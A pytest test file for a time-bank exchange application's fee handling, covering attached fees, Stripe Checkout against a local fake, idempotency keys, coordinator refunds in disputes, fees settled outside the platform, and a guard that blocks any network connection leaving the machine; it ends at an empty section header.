"""Fees through the services, with the real stripe library talking to the fake Stripe on
localhost: who may attach a fee and within which rules; the receiver told before confirming;
Checkout as a destination charge with our own idempotency keys, a lost answer or a failure
making one Stripe object at most; nothing leaving the machine; refunds by a coordinator
resolving a dispute, once; settling outside Archipel; withdrawing with the exchange; credits
that never depend on money; the money ledger's months, totals and CSV.

Where time matters the services take `now=`; the money ledger's months are driven by setting
the fees' timestamps on their rows.
"""

from __future__ import annotations

import csv
import io
import re
import socket
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import func, select

from exchange.adapters import stripe_api
from exchange.services.errors import Conflict, Forbidden, InvalidInput, NotFound, PaymentUnavailable
from exchange.services.exchanges import disputes, lifecycle
from exchange.services.ledger import rules, transfers
from exchange.services.money import bank_disputes as money_bank_disputes
from exchange.services.money import checkout, connect, fees, records
from exchange.services.notify import notifications
from models import (
    Account,
    Entry,
    Exchange,
    ExchangeEvent,
    Fee,
    ModerationAction,
    Notification,
    Transfer,
    db,
)
from models.base import utcnow
from tests import factories

# Every idempotency key the application may send: derived from our own rows, never random.
OUR_KEYS = re.compile(
    r"^(fee-\d+-checkout-\d+|user-\d+-account|user-\d+-link-\d+|fee-\d+-refund|fee-\d+-expire-\d+)$"
)


@dataclass
class World:
    ruche: object  # the receiver's space (the outsider's too)
    phare: object  # the provider's space
    quai: object  # nobody's: its coordinator is unrelated to both parties
    coord_r: object
    coord_p: object
    coord_q: object
    admin: object
    provider: object
    receiver: object
    outsider: object


@pytest.fixture
def w(app) -> World:
    s = factories.three_spaces()
    ruche, phare = s.ruche, s.phare
    provider = factories.member("Paule Prête", email="paule@example.org")
    receiver = factories.member("Rémi Reçoit", email="remi@example.org")
    outsider = factories.member("Olga Ailleurs", email="olga@example.org")
    factories.join(provider, phare)
    factories.join(receiver, ruche)
    factories.join(outsider, ruche)
    return World(*s, provider, receiver, outsider)


# ---------------------------------------------------------------------------- helpers


def refuses(error, call):
    """The call fails with exactly this error; the caller's transaction is rolled back, as
    a request's would be."""
    with pytest.raises(error) as caught:
        call()
    db.session.rollback()
    assert type(caught.value) is error
    return caught.value


def offer(w, title="Réparer un vélo"):
    return factories.listing(w.provider, w.phare, title)


def proposed(w, title="Réparer un vélo") -> Exchange:
    return lifecycle.propose(
        w.receiver.id, offer(w, title).id, message="Samedi ?", foreseen_minutes=60
    )


def accepted(w, cents: int | None = 1250, covers: str = "Chambre à air", **kw) -> Exchange:
    ex = proposed(w, **kw)
    lifecycle.accept(w.provider.id, ex.id, "Oui", fee_cents=cents, fee_covers=covers)
    return ex


def logged(w, cents: int | None = 1250, covers: str = "Chambre à air") -> Exchange:
    ex = accepted(w, cents, covers)
    lifecycle.log_time(w.provider.id, ex.id, minutes=60)
    return ex


def fresh(exchange_id: int) -> Exchange:
    db.session.expire_all()
    return db.session.get(Exchange, exchange_id)


def fee_of(ex) -> Fee | None:
    db.session.expire_all()
    return fees.of_exchange(ex.id)


def ready(fake, user):
    """The member's Stripe account, opened and made ready on Stripe's side (once)."""
    if connect.state_of(user.id) == "ready":
        return connect.account_of(user.id)
    connect.onboarding_url(user.id)
    account = connect.account_of(user.id)
    fake.make_account_ready(account.stripe_id)
    connect.sync(account.stripe_id)
    return connect.account_of(user.id)


def pay(fake, w, ex, now=None) -> Fee:
    """The receiver pays on Checkout; Stripe's answer is read back (what a webhook does)."""
    checkout.start_checkout(w.receiver.id, ex.id, now=now)
    session_id = fee_of(ex).checkout_session_id
    fake.complete_checkout(session_id)
    checkout.sync_checkout(session_id)
    fee = fee_of(ex)
    assert fee.state == "paid"
    return fee


def disputed_and_paid(fake, w) -> Exchange:
    ready(fake, w.provider)
    ex = accepted(w)
    pay(fake, w, ex)
    lifecycle.log_time(w.provider.id, ex.id, minutes=60)
    disputes.dispute(w.receiver.id, ex.id, "Le vélo grince encore.")
    return ex


def set_rules(admin, *, cap=None, commons_bp=None):
    now = rules.current()
    return rules.update(
        admin.id,
        credit_floor=now.credit_floor,
        credit_ceiling=now.credit_ceiling,
        welcome_grant=now.welcome_grant,
        fee_cap_cents=cap,
        commons_bp=commons_bp,
        reason="Règles des frais",
    )


def count(model, *where) -> int:
    return db.session.scalar(select(func.count()).select_from(model).where(*where))


def told(user, kind: str) -> int:
    return count(Notification, Notification.user_id == user.id, Notification.kind == kind)


def written() -> tuple:
    """How many rows a use case could have written."""
    db.session.expire_all()
    return (
        count(Fee),
        count(ExchangeEvent),
        count(Notification),
        count(ModerationAction),
        count(Transfer),
        count(Entry),
    )


def posts(fake, path: str | None = None):
    return [r for r in fake.requests if r.method == "POST" and (path is None or r.path == path)]


def time_ledger() -> tuple:
    """Every row of the time ledger: transfers, entries, cached balances."""
    db.session.expire_all()
    return (
        [
            (t.id, t.kind, t.exchange_id)
            for t in db.session.scalars(select(Transfer).order_by(Transfer.id))
        ],
        [
            (e.id, e.account_id, e.amount, e.balance_after)
            for e in db.session.scalars(select(Entry).order_by(Entry.id))
        ],
        [(a.id, a.balance) for a in db.session.scalars(select(Account).order_by(Account.id))],
    )


# ---------------------------------------------------------------------------- attaching


def test_the_provider_attaches_a_fee_on_accepting(w, fake_stripe):
    ex = accepted(w, 1250, "  Chambre à air  ")
    fee = fee_of(ex)
    assert (fee.provider_id, fee.receiver_id) == (w.provider.id, w.receiver.id)
    assert (fee.amount_cents, fee.covers, fee.state) == (1250, "Chambre à air", "due")
    assert fresh(ex.id).state == "accepted"
    assert count(ExchangeEvent, ExchangeEvent.kind == "fee_attached") == 1


def test_the_provider_attaches_a_fee_on_logging_the_time(w, fake_stripe):
    ex = accepted(w, cents=None, covers="")
    assert fee_of(ex) is None
    lifecycle.log_time(w.provider.id, ex.id, minutes=90, fee_cents=800, fee_covers="Trajet en car")
    fee = fee_of(ex)
    assert (fee.amount_cents, fee.covers, fee.state) == (800, "Trajet en car", "due")
    assert fresh(ex.id).state == "done"


def test_nothing_asked_nothing_attached(w, fake_stripe):
    ex = accepted(w, cents=None, covers="   ")
    assert fee_of(ex) is None
    assert fresh(ex.id).state == "accepted"


def test_without_stripe_keys_a_fee_is_refused_and_nothing_is_written(w):
    ex = proposed(w)
    before = written()
    error = refuses(
        InvalidInput,
        lambda: lifecycle.accept(w.provider.id, ex.id, fee_cents=1000, fee_covers="Matériel"),
    )
    assert error.field == "fee_amount"
    assert written() == before
    assert fresh(ex.id).state == "proposed"
    # Without a fee, the same acceptance goes through: credits work without Stripe.
    lifecycle.accept(w.provider.id, ex.id)
    assert fresh(ex.id).state == "accepted"


def test_the_receiver_cannot_attach_a_fee_on_accepting(w, fake_stripe):
    """On a request the provider proposes and the receiver accepts: the receiver asks no fee."""
    request = factories.listing(w.receiver, w.ruche, "Cherche un vélo réparé", kind="request")
    ex = lifecycle.propose(w.provider.id, request.id, message="Je peux", foreseen_minutes=60)
    before = written()
    error = refuses(
        Forbidden,
        lambda: lifecycle.accept(w.receiver.id, ex.id, fee_cents=1000, fee_covers="Matériel"),
    )
    assert error.field == "fee_amount"
    assert written() == before
    assert fresh(ex.id).state == "proposed"


def test_the_receiver_cannot_attach_a_fee_on_logging_the_time(w, fake_stripe):
    ex = accepted(w, cents=None, covers="")
    before = written()
    refuses(
        Forbidden,
        lambda: lifecycle.log_time(
            w.receiver.id, ex.id, minutes=60, fee_cents=1000, fee_covers="Matériel"
        ),
    )
    assert written() == before
    ex = fresh(ex.id)
    assert (ex.state, ex.minutes, ex.logged_by_id) == ("accepted", None, None)


@pytest.mark.parametrize(
    "cents, covers, field",
    [
        (2001, "Matériel", "fee_amount"),  # over the cap the admin set
        (49, "Matériel", "fee_amount"),  # under Stripe's smallest charge
        (0, "Matériel", "fee_amount"),
        (-500, "Matériel", "fee_amount"),
        (None, "Matériel", "fee_amount"),  # what it covers, but no amount
        (1000, "", "fee_covers"),  # an amount, but not what it covers
        (1000, "   ", "fee_covers"),
    ],
)
def test_a_refused_fee_rolls_back_the_whole_acceptance(w, fake_stripe, cents, covers, field):
    set_rules(w.admin, cap=2000)
    ex = proposed(w)
    before = written()
    error = refuses(
        InvalidInput,
        lambda: lifecycle.accept(w.provider.id, ex.id, fee_cents=cents, fee_covers=covers),
    )
    assert error.field == field
    assert written() == before
    ex = fresh(ex.id)
    assert (ex.state, ex.closed_at) == ("proposed", None)


def test_a_refused_fee_rolls_back_the_whole_log(w, fake_stripe):
    set_rules(w.admin, cap=2000)
    ex = accepted(w, cents=None, covers="")
    before = written()
    refuses(
        InvalidInput,
        lambda: lifecycle.log_time(
            w.provider.id, ex.id, minutes=60, fee_cents=2001, fee_covers="Matériel"
        ),
    )
    assert written() == before
    ex = fresh(ex.id)
    assert (ex.state, ex.minutes, ex.logged_at, ex.expires_at) == ("accepted", None, None, None)


def test_the_cap_and_the_minimum_are_allowed_exactly(w, fake_stripe):
    set_rules(w.admin, cap=2000)
    at_cap = accepted(w, 2000, "Salle", title="Atelier un")
    at_minimum = accepted(w, 50, "Un timbre", title="Atelier deux")
    assert fee_of(at_cap).amount_cents == 2000
    assert fee_of(at_minimum).amount_cents == 50


def test_the_default_cap_is_fifty_euros(w, fake_stripe):
    assert rules.current().fee_cap_cents == 50_00
    ex = proposed(w)
    refuses(
        InvalidInput,
        lambda: lifecycle.accept(w.provider.id, ex.id, fee_cents=50_01, fee_covers="Matériel"),
    )
    lifecycle.accept(w.provider.id, ex.id, fee_cents=50_00, fee_covers="Matériel")
    assert fee_of(ex).amount_cents == 50_00


def test_one_fee_per_exchange(w, fake_stripe):
    ex = accepted(w, 1000, "Matériel")
    before = written()
    error = refuses(
        Conflict,
        lambda: lifecycle.log_time(
            w.provider.id, ex.id, minutes=60, fee_cents=500, fee_covers="Encore"
        ),
    )
    assert error.field == "fee_amount"
    assert written() == before
    assert fresh(ex.id).state == "accepted"
    assert [(f.amount_cents, f.covers) for f in db.session.scalars(select(Fee))] == [
        (1000, "Matériel")
    ]


def test_the_commons_share_is_fixed_when_the_fee_is_attached(w, fake_stripe):
    set_rules(w.admin, commons_bp=250)  # 2.5 %
    ex = accepted(w, 1250, "Chambre à air", title="Premier")
    set_rules(w.admin, commons_bp=1000)
    later = accepted(w, 1250, "Chambre à air", title="Second")
    fee = fee_of(ex)
    # 2.5 % of 12.50 € is 31.25 cents: rounded down, a whole number of cents.
    assert (fee.amount_cents, fee.commons_cents, fee.to_provider_cents) == (1250, 31, 1219)
    assert fee_of(later).commons_cents == 125
    for value in (fee.amount_cents, fee.commons_cents):
        assert type(value) is int


def test_the_receiver_is_told_of_the_fee_before_confirming(w, fake_stripe):
    ex = accepted(w, cents=None, covers="")
    lifecycle.log_time(w.provider.id, ex.id, minutes=60, fee_cents=1250, fee_covers="Chambre")
    assert fresh(ex.id).state == "done"  # not confirmed yet
    notices = list(
        db.session.scalars(select(Notification).where(Notification.kind == "fee_attached"))
    )
    assert [n.user_id for n in notices] == [w.receiver.id]
    assert notices[0].data["amount_cents"] == 1250
    assert notices[0].data["covers"] == "Chambre"
    assert notices[0].link.endswith(f"/{ex.id}")


# ---------------------------------------------------------------------------- checkout


def test_only_the_receiver_pays(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    refuses(Forbidden, lambda: checkout.start_checkout(w.provider.id, ex.id))
    refuses(NotFound, lambda: checkout.start_checkout(w.outsider.id, ex.id))
    refuses(NotFound, lambda: checkout.start_checkout(w.coord_r.id, ex.id))
    assert posts(fake_stripe, "/v1/checkout/sessions") == []
    assert fee_of(ex).checkout_attempt == 0


@pytest.mark.parametrize("account", ["none", "pending"])
def test_checkout_waits_for_the_providers_account_to_be_ready(w, fake_stripe, account):
    if account == "pending":
        connect.onboarding_url(w.provider.id)
        assert connect.state_of(w.provider.id) == "pending"
    ex = accepted(w)
    error = refuses(Conflict, lambda: checkout.start_checkout(w.receiver.id, ex.id))
    assert "Paule Prête" in str(error.message)
    assert "compte de paiement" in str(error.message)
    assert posts(fake_stripe, "/v1/checkout/sessions") == []
    fee = fee_of(ex)
    assert (fee.state, fee.checkout_attempt, fee.checkout_session_id) == ("due", 0, None)


@pytest.mark.parametrize("commons_bp, application_fee", [(1000, "125"), (0, None)])
def test_checkout_is_a_destination_charge_with_the_commons_share_as_application_fee(
    w, fake_stripe, commons_bp, application_fee
):
    set_rules(w.admin, commons_bp=commons_bp)
    account = ready(fake_stripe, w.provider)
    ex = accepted(w, 1250, "Chambre à air")
    fee = fee_of(ex)
    url = checkout.start_checkout(w.receiver.id, ex.id)
    (request,) = posts(fake_stripe, "/v1/checkout/sessions")
    params = request.params
    assert request.idempotency_key == f"fee-{fee.id}-checkout-1"
    assert params["mode"] == "payment"
    (item,) = params["line_items"]
    assert item["quantity"] == "1"
    assert item["price_data"]["currency"] == "eur"
    assert item["price_data"]["unit_amount"] == "1250"
    assert params["metadata"]["fee_id"] == str(fee.id)
    intent = fake_stripe.payment_intent_data(fee_of(ex).checkout_session_id)
    assert intent == params["payment_intent_data"]
    assert intent["transfer_data"] == {"destination": account.stripe_id}
    assert intent["metadata"]["fee_id"] == str(fee.id)
    assert intent.get("application_fee_amount") == application_fee
    (session,) = fake_stripe.objects("checkout.session")
    assert (session["amount_total"], session["currency"], session["url"]) == (1250, "eur", url)
    fee = fee_of(ex)
    assert (fee.checkout_attempt, fee.checkout_session_id) == (1, session["id"])


def test_a_double_call_reuses_the_open_session(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    now = utcnow()
    first = checkout.start_checkout(w.receiver.id, ex.id, now=now)
    assert checkout.start_checkout(w.receiver.id, ex.id, now=now) == first
    # Half an hour later the session is still open: the same one again.
    assert checkout.start_checkout(w.receiver.id, ex.id, now=now + timedelta(minutes=30)) == first
    assert len(fake_stripe.objects("checkout.session")) == 1
    assert len(posts(fake_stripe, "/v1/checkout/sessions")) == 1
    assert fee_of(ex).checkout_attempt == 1


def test_an_expired_session_is_replaced_by_the_next_attempt(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    fee_id = fee_of(ex).id
    first = checkout.start_checkout(w.receiver.id, ex.id)
    session_id = fee_of(ex).checkout_session_id
    fake_stripe.expire_checkout(session_id)
    checkout.sync_checkout(session_id)
    fee = fee_of(ex)
    assert (fee.state, fee.checkout_url) == ("due", None)
    second = checkout.start_checkout(w.receiver.id, ex.id)
    assert second != first
    assert [r.idempotency_key for r in posts(fake_stripe, "/v1/checkout/sessions")] == [
        f"fee-{fee_id}-checkout-1",
        f"fee-{fee_id}-checkout-2",
    ]
    assert len(fake_stripe.objects("checkout.session")) == 2
    assert fee_of(ex).checkout_attempt == 2


def test_a_session_past_its_time_is_replaced_by_the_next_attempt(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    fee_id = fee_of(ex).id
    now = utcnow()
    first = checkout.start_checkout(w.receiver.id, ex.id, now=now)
    second = checkout.start_checkout(w.receiver.id, ex.id, now=now + timedelta(hours=2))
    assert second != first
    assert [r.idempotency_key for r in posts(fake_stripe, "/v1/checkout/sessions")] == [
        f"fee-{fee_id}-checkout-1",
        f"fee-{fee_id}-checkout-2",
    ]
    fee = fee_of(ex)
    assert (fee.checkout_attempt, fee.checkout_url) == (2, second)


def test_a_replaced_session_can_no_longer_be_paid(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    now = utcnow()
    checkout.start_checkout(w.receiver.id, ex.id, now=now)
    old = fee_of(ex).checkout_session_id
    # 57 minutes on, the one-hour session still has 3 minutes to live: it gets replaced.
    checkout.start_checkout(w.receiver.id, ex.id, now=now + timedelta(minutes=57))
    assert fee_of(ex).checkout_session_id != old
    assert fake_stripe.get("checkout.session", old)["status"] != "open"


def test_a_lost_answer_retried_by_the_library_makes_one_session(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    fee_id = fee_of(ex).id
    fake_stripe.fail_next()
    url = checkout.start_checkout(w.receiver.id, ex.id)
    (session,) = fake_stripe.objects("checkout.session")
    assert session["url"] == url
    tries = posts(fake_stripe, "/v1/checkout/sessions")
    assert [(r.idempotency_key, r.dropped, r.replayed) for r in tries] == [
        (f"fee-{fee_id}-checkout-1", True, False),
        (f"fee-{fee_id}-checkout-1", False, True),
    ]
    fee = fee_of(ex)
    assert (fee.checkout_attempt, fee.checkout_session_id) == (1, session["id"])


def test_a_failure_that_reaches_us_keeps_only_the_attempt_and_the_next_try_finds_its_session(
    w, fake_stripe
):
    """The attempt (its number and start) is written before Stripe is asked, so that the next
    try sends the same parameters with the same key; nothing else is written."""
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    fee_id = fee_of(ex).id
    now = utcnow()
    before = written()
    fake_stripe.fail_next(3)  # the first try and both of the library's retries
    refuses(PaymentUnavailable, lambda: checkout.start_checkout(w.receiver.id, ex.id, now=now))
    assert written() == before
    fee = fee_of(ex)
    assert (fee.checkout_attempt, fee.checkout_session_id, fee.checkout_url) == (1, None, None)
    assert fee.state == "due" and fee.checkout_started_at is not None
    assert len(posts(fake_stripe, "/v1/checkout/sessions")) == 3
    (made,) = fake_stripe.objects("checkout.session")  # Stripe made it; we never heard

    url = checkout.start_checkout(w.receiver.id, ex.id, now=now)
    assert url == made["url"]
    assert len(fake_stripe.objects("checkout.session")) == 1
    assert {r.idempotency_key for r in posts(fake_stripe, "/v1/checkout/sessions")} == {
        f"fee-{fee_id}-checkout-1"
    }
    fee = fee_of(ex)
    assert (fee.checkout_attempt, fee.checkout_session_id) == (1, made["id"])


def test_a_try_a_few_seconds_after_a_failure_finds_the_same_session(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    now = utcnow()
    fake_stripe.fail_next(3)
    refuses(PaymentUnavailable, lambda: checkout.start_checkout(w.receiver.id, ex.id, now=now))
    (made,) = fake_stripe.objects("checkout.session")
    # The receiver clicks again a little later: a person does not retry in the same second.
    url = checkout.start_checkout(w.receiver.id, ex.id, now=now + timedelta(seconds=5))
    assert url == made["url"]


def test_every_post_to_stripe_carries_a_key_of_ours(w, fake_stripe):
    set_rules(w.admin, commons_bp=1000)
    connect.onboarding_url(w.provider.id)  # user-<id>-account, user-<id>-link-1
    ready(fake_stripe, w.provider)  # user-<id>-link-2
    # A fee settled outside after its session was replaced once.
    settled = accepted(w, title="Réglé en liquide")
    checkout.start_checkout(w.receiver.id, settled.id)
    fake_stripe.expire_checkout(fee_of(settled).checkout_session_id)
    checkout.sync_checkout(fee_of(settled).checkout_session_id)
    checkout.start_checkout(w.receiver.id, settled.id)
    fees.settle_outside(w.provider.id, settled.id)  # fee-<id>-expire-2
    # A fee paid, its answer lost once, then refunded in a dispute.
    fake_stripe.fail_next()
    ex = disputed_and_paid(fake_stripe, w)
    fees.refund(w.coord_p.id, ex.id, "Le travail n'a pas été fait.")

    sent = posts(fake_stripe)
    assert all(r.idempotency_key for r in sent)
    assert [r.idempotency_key for r in sent if not OUR_KEYS.match(r.idempotency_key)] == []
    p, a, b = w.provider.id, fee_of(settled).id, fee_of(ex).id
    assert {r.idempotency_key for r in sent} == {
        f"user-{p}-account",
        f"user-{p}-link-1",
        f"user-{p}-link-2",
        f"fee-{a}-checkout-1",
        f"fee-{a}-checkout-2",
        f"fee-{a}-expire-2",
        f"fee-{b}-checkout-1",
        f"fee-{b}-refund",
    }
    assert any(r.replayed for r in sent)  # the lost answer was retried with the same key


# ---------------------------------------------------------------------------- no network


def test_nothing_leaves_the_machine(w, fake_stripe, monkeypatch):
    """A whole path (onboarding, fee, Checkout, payment, dispute, refund) with every socket
    outside this machine refused: each request went to the fake."""
    local = ("127.0.0.1", "::1", "localhost")
    seen: list = []
    real_connect, real_connect_ex = socket.socket.connect, socket.socket.connect_ex
    real_getaddrinfo = socket.getaddrinfo

    def check(address):
        seen.append(address)
        if isinstance(address, tuple) and address[0] not in local:
            raise AssertionError(f"a connection left the machine: {address!r}")

    def connect_(self, address):
        check(address)
        return real_connect(self, address)

    def connect_ex(self, address):
        check(address)
        return real_connect_ex(self, address)

    def getaddrinfo(host, *args, **kwargs):
        if host not in local:
            raise AssertionError(f"a name was looked up: {host!r}")
        return real_getaddrinfo(host, *args, **kwargs)

    monkeypatch.setattr(socket.socket, "connect", connect_)
    monkeypatch.setattr(socket.socket, "connect_ex", connect_ex)
    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    outside = socket.socket()
    with pytest.raises(AssertionError, match="left the machine"):  # the guard is on
        outside.connect(("203.0.113.7", 443))
    outside.close()

    assert stripe_api.client()._requestor._options.base_addresses["api"] == fake_stripe.url
    ex = disputed_and_paid(fake_stripe, w)
    fees.refund(w.admin.id, ex.id, "Le travail n'a pas été fait.")
    assert fee_of(ex).state == "refunded"
    assert seen  # the guard saw the connections to the fake
    port = int(fake_stripe.url.rsplit(":", 1)[1])
    stripe_calls = [a for a in seen if isinstance(a, tuple) and a[1] == port]
    assert stripe_calls


# ---------------------------------------------------------------------------- refunds


def _resolved(w, ex, outcome):
    if outcome is not None:
        disputes.resolve(w.coord_r.id, ex.id, outcome=outcome, reason="Tranché", minutes=30)


@pytest.mark.parametrize("who", ["coord_p", "coord_r", "admin"])
@pytest.mark.parametrize("outcome", [None, "confirm", "cancel"])
def test_a_coordinator_who_can_resolve_refunds_a_paid_fee_once(w, fake_stripe, who, outcome):
    ex = disputed_and_paid(fake_stripe, w)
    _resolved(w, ex, outcome)
    actor = getattr(w, who)
    fee = fees.refund(actor.id, ex.id, "Le vélo n'a pas été réparé.")
    (refund,) = fake_stripe.objects("refund")
    assert fake_stripe.refund_options(refund["id"]) == {
        "reverse_transfer": True,
        "refund_application_fee": True,
    }
    (request,) = posts(fake_stripe, "/v1/refunds")
    assert request.idempotency_key == f"fee-{fee.id}-refund"
    fee = fee_of(ex)
    assert refund["payment_intent"] == fee.payment_intent_id
    assert (fee.state, fee.refund_id, fee.refunded_by_id) == ("refunded", refund["id"], actor.id)
    assert fee.refunded_at is not None
    (logged_act,) = db.session.scalars(
        select(ModerationAction).where(ModerationAction.action == "fee_refunded")
    )
    assert (logged_act.actor_id, logged_act.reason) == (actor.id, "Le vélo n'a pas été réparé.")
    assert (logged_act.target_type, logged_act.target_id) == ("exchange", ex.id)
    assert logged_act.details["amount_cents"] == 1250
    assert told(w.provider, "fee_refunded") == 1
    assert told(w.receiver, "fee_refunded") == 1

    # Once: a second refund is refused, and Stripe is not asked again.
    before = written()
    refuses(Conflict, lambda: fees.refund(actor.id, ex.id, "Encore"))
    assert written() == before
    assert len(fake_stripe.objects("refund")) == 1
    assert len(posts(fake_stripe, "/v1/refunds")) == 1


def test_a_party_cannot_refund(w, fake_stripe):
    ex = disputed_and_paid(fake_stripe, w)
    for party in (w.provider, w.receiver):
        refuses(NotFound, lambda party=party: fees.refund(party.id, ex.id, "Je veux"))
    assert fake_stripe.objects("refund") == []
    assert fee_of(ex).state == "paid"


def test_a_coordinator_of_an_unrelated_space_cannot_refund(w, fake_stripe):
    ex = disputed_and_paid(fake_stripe, w)
    before = written()
    refuses(Forbidden, lambda: fees.refund(w.coord_q.id, ex.id, "Je tranche"))
    refuses(Forbidden, lambda: fees.refund(w.outsider.id, ex.id, "Je tranche"))
    assert written() == before
    assert fake_stripe.objects("refund") == []
    assert fee_of(ex).state == "paid"


def test_an_undisputed_confirmed_exchange_keeps_its_paid_fee(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    pay(fake_stripe, w, ex)
    lifecycle.log_time(w.provider.id, ex.id, minutes=60)
    lifecycle.confirm(w.receiver.id, ex.id)
    before = written()
    for actor in (w.coord_p, w.admin):
        refuses(Forbidden, lambda actor=actor: fees.refund(actor.id, ex.id, "Pourquoi pas"))
    assert written() == before
    assert fake_stripe.objects("refund") == []
    assert fee_of(ex).state == "paid"


def test_only_a_paid_fee_is_refunded(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = logged(w)
    disputes.dispute(w.receiver.id, ex.id, "Le vélo grince encore.")
    refuses(Conflict, lambda: fees.refund(w.coord_p.id, ex.id, "Rendez-lui"))
    assert fee_of(ex).state == "due"
    assert posts(fake_stripe, "/v1/refunds") == []


@pytest.mark.parametrize("reason", ["", "   ", None])
def test_a_refund_needs_a_reason(w, fake_stripe, reason):
    ex = disputed_and_paid(fake_stripe, w)
    before = written()
    error = refuses(InvalidInput, lambda: fees.refund(w.coord_p.id, ex.id, reason))
    assert error.field == "reason"
    assert written() == before
    assert posts(fake_stripe, "/v1/refunds") == []
    fee = fee_of(ex)
    assert (fee.state, fee.refund_id) == ("paid", None)


def test_a_refund_whose_answer_is_lost_is_made_once(w, fake_stripe):
    ex = disputed_and_paid(fake_stripe, w)
    before = written()
    fake_stripe.fail_next(3)
    refuses(PaymentUnavailable, lambda: fees.refund(w.coord_p.id, ex.id, "Rien n'a été fait."))
    assert written() == before
    assert fee_of(ex).state == "paid"
    fees.refund(w.coord_p.id, ex.id, "Rien n'a été fait.")
    assert len(fake_stripe.objects("refund")) == 1
    assert fee_of(ex).state == "refunded"


# ---------------------------------------------------------------------------- settled outside


def test_the_provider_marks_a_due_fee_settled_outside(w, fake_stripe):
    ex = accepted(w)
    refuses(Forbidden, lambda: fees.settle_outside(w.receiver.id, ex.id))
    refuses(NotFound, lambda: fees.settle_outside(w.outsider.id, ex.id))
    refuses(NotFound, lambda: fees.settle_outside(w.coord_p.id, ex.id))
    assert fee_of(ex).state == "due"
    fees.settle_outside(w.provider.id, ex.id)
    fee = fee_of(ex)
    assert fee.state == "settled" and fee.settled_at is not None
    assert told(w.receiver, "fee_settled") == 1
    assert count(ExchangeEvent, ExchangeEvent.kind == "fee_settled") == 1
    # Only when due: once settled, nothing more to settle or pay.
    refuses(Conflict, lambda: fees.settle_outside(w.provider.id, ex.id))
    refuses(Conflict, lambda: checkout.start_checkout(w.receiver.id, ex.id))
    assert fake_stripe.requests == []  # no session was open: Stripe was not asked


def test_a_paid_fee_is_not_settled_outside(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    pay(fake_stripe, w, ex)
    refuses(Conflict, lambda: fees.settle_outside(w.provider.id, ex.id))
    fee = fee_of(ex)
    assert (fee.state, fee.settled_at) == ("paid", None)


def test_settling_outside_expires_the_open_session_first(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    checkout.start_checkout(w.receiver.id, ex.id)
    fee = fee_of(ex)
    session_id = fee.checkout_session_id
    fees.settle_outside(w.provider.id, ex.id)
    assert fake_stripe.get("checkout.session", session_id)["status"] == "expired"
    (expire,) = posts(fake_stripe, f"/v1/checkout/sessions/{session_id}/expire")
    assert expire.idempotency_key == f"fee-{fee.id}-expire-1"
    fee = fee_of(ex)
    assert (fee.state, fee.checkout_url) == ("settled", None)
    with pytest.raises(ValueError):  # the receiver can no longer pay it on Stripe
        fake_stripe.complete_checkout(session_id)


def test_a_session_paid_meanwhile_is_not_settled_outside(w, fake_stripe):
    ready(fake_stripe, w.provider)
    ex = accepted(w)
    checkout.start_checkout(w.receiver.id, ex.id)
    session_id = fee_of(ex).checkout_session_id
    fake_stripe.complete_checkout(session_id)  # paid; the webhook has not arrived yet
    error = refuses(Conflict, lambda: fees.settle_outside(w.provider.id, ex.id))
    assert "payés en ligne" in str(error.message)
    assert posts(fake_stripe, f"/v1/checkout/sessions/{session_id}/expire") == []
    # What the provider's click found out is recorded at once, without waiting for the webhook.
    fee = fee_of(ex)
    assert (fee.state, fee.settled_at) == ("paid", None)
    assert fee.paid_at is not None
    checkout.sync_checkout(session_id)  # the webhook, later: nothing more
    assert count(ExchangeEvent, ExchangeEvent.kind == "fee_paid") == 1


# ---------------------------------------------------------------------------- withdrawn


def test_cancelling_an_accepted_exchange_withdraws_its_due_fee(w, fake_stripe):
    ex = accepted(w)
    lifecycle.cancel(w.receiver.id, ex.id, "Plus besoin")
    fee = fee_of(ex)
    assert (fee.state, fee.closed_at is not None) == ("withdrawn", True)
    refuses(Conflict, lambda: checkout.start_checkout(w.receiver.id, ex.id))
    refuses(Conflict, lambda: fees.settle_outside(w.provider.id, ex.id))


def test_an_expired_log_withdraws_its_due_fee(w, fake_stripe):
    ex = logged(w)
    assert lifecycle.expire_stale(now=utcnow() + timedelta(days=lifecycle.log_days() + 1)) == 1
    assert fresh(ex.id).state == "expired"
    assert fee_of(ex).state == "withdrawn"


def test_a_dispute_resolved_by_cancelling_withdraws_its_due_fee(w, fake_stripe):
    ex = logged(w)
    disputes.dispute(w.receiver.id, ex.id, "Personne n'est venu.")
    disputes.resolve(w.coord_r.id, ex.id, outcome="cancel", reason="Personne n'est venu.")
    assert fresh(ex.id).state == "cancelled"
    assert fee_of(ex).state == "withdrawn"


def test_a_paid_fee_stays_paid_when_its_exchange_is_called_off(w, fake_stripe):
    ready(fake_stripe, w.provider)
    cancelled = accepted(w, title="Annulé")
    pay(fake_stripe, w, cancelled)
    lifecycle.cancel(w.provider.id, cancelled.id, "Empêchée")
    expired = accepted(w, title="Expiré")
    pay(fake_stripe, w, expired)
    lifecycle.log_time(w.provider.id, expired.id, minutes=60)
    lifecycle.expire_stale(now=utcnow() + timedelta(days=lifecycle.log_days() + 1))
    resolved = accepted(w, title="Tranché")
    pay(fake_stripe, w, resolved)
    lifecycle.log_time(w.provider.id, resolved.id, minutes=60)
    disputes.dispute(w.receiver.id, resolved.id, "Personne n'est venu.")
    disputes.resolve(w.coord_p.id, resolved.id, outcome="cancel", reason="Annulé")
    for ex in (cancelled, expired, resolved):
        assert fresh(ex.id).state in ("cancelled", "expired")
        assert fee_of(ex).state == "paid"
    # A coordinator may still give the money back, the exchange being called off.
    fees.refund(w.coord_p.id, cancelled.id, "L'échange n'a pas eu lieu.")
    assert fee_of(cancelled).state == "refunded"


# ---------------------------------------------------------------------------- credits and money


